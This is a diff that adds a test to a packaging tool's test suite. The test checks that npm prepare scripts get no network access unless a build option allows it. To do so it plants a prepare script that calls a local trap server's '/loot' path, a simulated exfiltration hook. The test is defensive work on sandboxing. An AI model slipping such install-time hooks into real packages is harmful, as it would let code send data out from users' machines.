@@ -250,3 +250,25 @@ describe('a proxy that takes a password', () => {
     expect(env.HTTPS_PROXY).toBe(new URL(saved!).href);
   });
 });
+
+describe('the network of the steps that run scripts', () => {
+  it("none by default: the tag's prepare script reaches nothing (the install before it still reaches the source registry); build.network lets it", async () => {
+    const trap = await startTrap();
+    try {
+      const at = checkout('@acme-gh/caller', '@acme-gh/build-tool');
+      const own = JSON.parse(readFileSync(join(at, 'package.json'), 'utf8')) as { scripts: Record<string, string> };
+      own.scripts = { prepare: `node -e "require('@acme-gh/build-tool'); require('http').get('${trap.url}loot').on('error', (e) => console.log('prepare could not send:', e.code))"` };
+      writeFileSync(join(at, 'package.json'), JSON.stringify(own));
+      const source = { url: registry.url, token: registry.token, scopes: ['@acme-gh'], packages: [] };
+      const offline = await pack(at, '@acme-gh/caller', [source]);
+      expect(offline.output).toContain('prepare could not send: ENETUNREACH');
+      expect(trap.seen).toEqual([]);
+      rmSync(join(at, 'node_modules'), { recursive: true, force: true });
+      const outDir = join(dir, `out-${Math.random().toString(36).slice(2)}`);
+      await packNpm({ checkoutDir: at, subdir: '', name: '@acme-gh/caller', version: '1.0.0', outDir, timeoutMs: 120_000, internal: [source], network: true });
+      expect(trap.seen).toEqual([{ url: '/loot' }]);
+    } finally {
+      await trap.stop();
+    }
+  });
+});
